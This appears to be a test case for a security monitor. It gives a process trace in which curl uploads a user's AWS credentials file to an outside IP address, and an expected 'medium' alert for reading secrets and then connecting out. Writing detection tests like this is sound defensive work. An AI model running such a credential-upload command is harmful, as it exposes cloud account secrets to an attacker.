# The tool reads them itself.
sh is /bin/bash uid=1000
sh fork curl
curl exec /usr/bin/curl "curl -T /home/a/.aws/credentials http://203.0.113.9"
curl read /home/a/.aws/credentials
curl connect tcp:10.0.0.1:40000>203.0.113.9:80
expect medium reads secrets, then connects out
